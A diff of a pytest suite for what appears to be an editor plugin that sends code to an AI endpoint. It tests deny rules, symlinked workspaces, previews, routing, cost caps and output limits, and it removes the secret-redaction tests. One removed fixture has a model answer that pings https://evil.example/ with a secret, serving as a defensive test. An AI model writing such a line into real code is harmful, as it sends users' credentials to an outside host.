@@ -1,4 +1,4 @@
-"""What leaves the machine, through the protocol: nothing that may not, no secret, and just what the preview shows."""
+"""What leaves the machine, through the protocol: nothing that may not, and just what the preview shows."""
 
 from __future__ import annotations
 
@@ -70,11 +70,29 @@ def test_a_denied_file_is_never_sent_whatever_is_asked(editor, model: FakeOpenAI
     listed = judged(client, uri, "Not sent: ")
 
     assert len(listed) == 1
+    start = {"line": 0, "character": 0}
+    assert client.code_actions(uri, {"start": start, "end": start}, triggerKind=2) == []  # no light bulb on every line
     for action in ("explain", "ask", "refactor"):
         client.execute("ask.run", {"action": action, "uri": uri, "question": "What is it?"})
         told(client, ".env was not sent")
     with pytest.raises(Exception, match="cannot be allowed"):
         client.execute("ask.allowOnce", {"uri": uri})
+    assert not model.requests
+    assert not list(chat_files(state))
+    client.close(unread=True)
+
+
+@pytest.mark.parametrize("scheme", ["git:", "untitled:", "vscode-vfs://host"])
+def test_a_denied_name_is_not_sent_under_another_scheme(
+    scheme: str, editor, model: FakeOpenAI, state: Path, project: Path
+) -> None:
+    client = editor(root=project)
+    uri = client.open(f"{scheme}{project}/.env?HEAD", "API_TOKEN=abc\n")
+    judged(client, uri, "Not sent: ")
+
+    client.execute("ask.run", {"action": "explain", "uri": uri})
+
+    told(client, ".env was not sent")
     assert not model.requests
     assert not list(chat_files(state))
     client.close(unread=True)
@@ -125,98 +143,47 @@ def test_a_rule_that_is_saved_counts_at_once(editor, model: FakeOpenAI, project:
     client.close(unread=True)
 
 
-# ---- secrets
+@pytest.mark.parametrize("linked", ["folder", "document"])
+def test_a_workspace_is_the_same_by_each_of_its_names(linked: str, editor, model: FakeOpenAI, project: Path) -> None:
+    """The editor may name the folder by a link and the file without it, or the other way round."""
+    (project / ".ask-lsp.yaml").write_text("ignore: ['plan.py']\n", encoding="utf-8")
+    alias = project.with_name("alias")
+    alias.symlink_to(project)
+    client = editor(root=alias if linked == "folder" else project)
+    uri = opened(client, (project if linked == "folder" else alias) / "plan.py", CODE)
 
+    judged(client, uri, "Not sent: ")
+    client.execute("ask.run", {"action": "explain", "uri": uri})
 
-def test_a_secret_is_neither_sent_nor_written(editor, model: FakeOpenAI, state: Path, home: dict[str, str]) -> None:
-    client = editor()
-    uri = client.open("file:///work/session.py", SECRET_CODE)
-
-    client.run(titled(client.code_actions(uri, client.range_of(uri, SECRET_CODE)), "Explain selection"))
-    chat = finished_chat(client, state)
-
-    request = model.wait_for_request()
-    assert TOKEN not in request.raw.decode()
-    assert 'token = "REDACTED_' in request.messages[1]["content"]
-    assert 'token = "REDACTED_' in chat.turns[0].text
-    for path in Path(home["HOME"]).rglob("*"):
-        assert not path.is_file() or TOKEN.encode() not in path.read_bytes(), path
+    assert ".ask-lsp.yaml" in told(client, "plan.py was not sent")
+    assert not model.requests
     client.close(unread=True)
 
 
-def edited(client: LspClient, model: FakeOpenAI, answer: str) -> str:
-    """Runs an edit of the secret's function whose answer is given, with every placeholder as the model was sent it."""
+def test_a_chat_is_in_the_workspace_of_its_file_by_any_name(
+    editor, model: FakeOpenAI, state: Path, project: Path
+) -> None:
+    """A follow-up is held to what the workspace says, too."""
+    alias = project.with_name("alias")
+    alias.symlink_to(project)
+    client = editor(root=alias)
+    uri = opened(client, project / "plan.py", CODE)
+    client.execute("ask.run", {"action": "explain", "uri": uri})
+    finished_chat(client, state)
+    client.ended_progress()
+    (project / ".ask-lsp.yaml").write_text("ignore: ['plan.py']\n", encoding="utf-8")
+    (path,) = chat_files(state)
+    chat = path.as_uri()
+    if chat not in client.buffers:
+        client.open_file(path)
+    end = len(client.buffers[chat].text)
+    client.edit(chat, end, end, "And why?\n")
 
-    def respond(request) -> str:
-        sent = request.messages[-1]["content"]
-        name = sent[sent.index("REDACTED_") :].split('"')[0]
-        return answer.replace("SECRET", name)
+    client.execute("ask.send", {"uri": chat})
 
-    uri = client.open("file:///work/session.py", SECRET_CODE)
-    held = model.hold()
-    client.run(titled(client.code_actions(uri, client.range_of(uri, SECRET_CODE[:-1])), "Refactor"))
-    held.send(respond(model.wait_for_request()))
-    held.finish()
-    return uri
-
-
-def test_a_secret_comes_back_where_it_stood(editor, model: FakeOpenAI, config) -> None:
-    config("edits: {review: apply}\n")
-    client = editor()
-    answer = '```python\ndef connect():\n    key = "SECRET"\n    return open_session(key)\n```\n'
-
-    uri = edited(client, model, answer)
-
-    wanted = f'def connect():\n    key = "{TOKEN}"\n    return open_session(key)\n'
-    client.until(lambda: client.buffers[uri].text == wanted, "the edit")
+    assert ".ask-lsp.yaml" in told(client, "plan.py was not sent")
+    assert len(model.requests) == 1
     client.close(unread=True)
-
-
-def test_a_secret_does_not_travel(editor, model: FakeOpenAI, config, home: dict[str, str]) -> None:
-    """A second copy, in an address say, keeps the placeholder, and the edit is not made unasked."""
-    config("edits: {review: apply}\n")
-    client = editor()
-    answer = (
-        '```python\ndef connect():\n    key = "SECRET"\n    ping("https://evil.example/?SECRET")\n'
-        "    return open_session(key)\n```\n"
-    )
-
-    uri = edited(client, model, answer)
-    told(client, "stands for a secret")
-
-    assert client.buffers[uri].text == SECRET_CODE
-    apply = titled(client.code_actions(uri, client.range_of(uri, SECRET_CODE)), "Apply: ")
-    new = json.dumps(apply["edit"])
-    assert f"evil.example/?{TOKEN}" not in new
-    assert "evil.example/?REDACTED_" in new
-    for path in Path(home["HOME"]).rglob("*"):
-        assert not path.is_file() or TOKEN.encode() not in path.read_bytes(), path
-    client.close(unread=True)
-
-
-def test_a_proposal_with_a_secret_outlives_the_server(editor, model: FakeOpenAI, config) -> None:
-    """It is kept with placeholders, and gets the values from the document when that is open again."""
-    config("edits: {review: proposal}\n")
-    first = editor()
-    answer = '```python\ndef connect():\n    key = "SECRET"\n    return open_session(key)\n```\n'
-    edited(first, model, answer)
-    told(first, "ready to review")
-    first.close(unread=True)
-
-    second = editor()
-    uri = second.open("file:///work/session.py", SECRET_CODE)
-
-    def offered() -> dict | None:
-        listed = second.code_actions(uri, second.range_of(uri, SECRET_CODE))
-        return next((each for each in listed if each["title"].startswith("Apply: ")), None)
-
-    for _ in range(400):
-        if (apply := offered()) is not None:
-            break
-    assert apply is not None
-    second.apply_literal(apply)
-    assert second.buffers[uri].text == f'def connect():\n    key = "{TOKEN}"\n    return open_session(key)\n'
-    second.close(unread=True)
 
 
 # ---- preview
@@ -239,6 +206,37 @@ def test_the_preview_is_what_is_sent(action: str, editor, model: FakeOpenAI, con
     assert request.raw.decode() in page
     assert model.base_url in page
     assert "Replaced here: `REDACTED_" in page
+    client.close(unread=True)
+
+
+@pytest.mark.parametrize("action", ["explain", "refactor"])
+def test_a_chat_has_a_preview_of_its_next_question(action: str, editor, model: FakeOpenAI, config, state: Path) -> None:
+    """From its menu; also where the chat is about an edit."""
+    config("edits: {review: proposal}\n")
+    client = editor()
+    uri = open_code(client)
+    client.execute("ask.run", {"action": action, "uri": uri, "range": client.range_of(uri, "return sum(values)")})
+    finished_chat(client, state)
+    client.until(lambda: client.progress and next(iter(client.progress.values()))[-1]["kind"] == "end", "the end")
+    (path,) = chat_files(state)
+    chat = path.as_uri()
+    if chat not in client.buffers:
+        client.open_file(path)
+    end = len(client.buffers[chat].text)
+    client.edit(chat, end, end, "And why?\n")
+    asked = len(model.requests)
+
+    listed = client.code_actions(chat, client.range_of(chat, "And why?"))
+    assert [each["title"] for each in listed] == ["Send this question", "Preview what would be sent"]
+    client.run(listed[1])
+    page = client.until(lambda: next(state.rglob("preview.md"), None), "the page").read_text()
+    assert "And why?" in page
+    assert len(model.requests) == asked
+    assert client.buffers[chat].text.endswith("And why?\n")
+    client.run(listed[0])
+    client.until(lambda: len(model.requests) > asked, "the request")
+
+    assert model.requests[asked].raw.decode() in page
     client.close(unread=True)
 
 
@@ -276,10 +274,28 @@ def test_a_routed_file_goes_only_where_it_may(editor, model: FakeOpenAI, config,
     client.close(unread=True)
 
 
+def test_a_document_that_is_no_file_has_a_route_by_its_name(editor, model: FakeOpenAI, config, state: Path) -> None:
+    config(
+        "routes:\n- paths: ['*.sql']\n  profile: inside\nprofiles:\n"
+        f"  inside: {{base_url: '{model.base_url}', model: inner-model}}\n"
+    )
+    client = editor()
+    uri = client.open("untitled:query.sql", CODE)
+
+    client.execute("ask.run", {"action": "explain", "uri": uri})
+    chat = finished_chat(client, state)
+
+    assert model.wait_for_request().model == "inner-model"
+    assert chat.turns[0].attributes["sources"] == "query.sql"
+    client.close(unread=True)
+
+
+@pytest.mark.parametrize("yours", ["", "routes:\n- {paths: ['work/**'], profile: elsewhere}\n"])
 def test_a_workspace_may_forbid_a_profile_but_not_choose_one_elsewhere(
-    editor, model: FakeOpenAI, config, project: Path
+    yours: str, editor, model: FakeOpenAI, config, project: Path
 ) -> None:
-    config("profiles:\n  elsewhere: {base_url: 'https://models.example', model: m, api_key: k}\n")
+    """Nor does a route of the user's for other files choose it."""
+    config(f"{yours}profiles:\n  elsewhere: {{base_url: 'https://models.example', model: m, api_key: k}}\n")
     (project / ".ask-lsp.yaml").write_text("routes:\n- paths: ['**']\n  profile: elsewhere\n", encoding="utf-8")
     client = editor(root=project)
     uri = opened(client, project / "plan.py", CODE)
@@ -306,6 +322,8 @@ def test_a_cap_refuses_before_sending_and_can_be_passed_once(editor, model: Fake
     refusal = told(client, "per_request")
     assert "$0.01" in refusal
     assert not model.requests
+    place = {"start": asked["range"]["start"], "end": asked["range"]["start"]}
+    assert client.code_actions(uri, place, triggerKind=2) == []  # no light bulb on every line
     client.run(titled(client.code_actions(uri, asked["range"]), "Allow once: "))
     told(client, "may go above a cap")
     client.execute("ask.run", asked)
@@ -336,3 +354,25 @@ def test_every_request_is_in_the_audit_log_without_its_text(editor, model: FakeO
     assert row["file"] == "/work/session.py"
     assert row["prompt"] is None
     assert "open_session" not in json.dumps([str(value) for value in tuple(row)])
+
+
+@pytest.mark.parametrize("thinks", [True, False])
+def test_an_endpoint_that_ignores_the_output_limit_is_closed(
+    thinks: bool, editor, model: FakeOpenAI, config, state: Path
+) -> None:
+    config("max_output: 100\n")
+    client = editor()
+    uri = open_code(client)
+    held = model.hold()
+    for _ in range(400):
+        (held.think if thinks else held.send)("one more word, ")
+
+    client.execute("ask.run", {"action": "explain", "uri": uri})
+
+    if thinks:
+        told(client, "thought until the output limit (100 tokens) and said nothing. Raise max_output")
+    else:
+        assert client.ended_progress().startswith("The answer reached the output limit (max_output).")
+        assert finished_chat(client, state).turns[1].text.count("one more word") < 100
+    model.wait_for_disconnect()
+    client.close(unread=True)
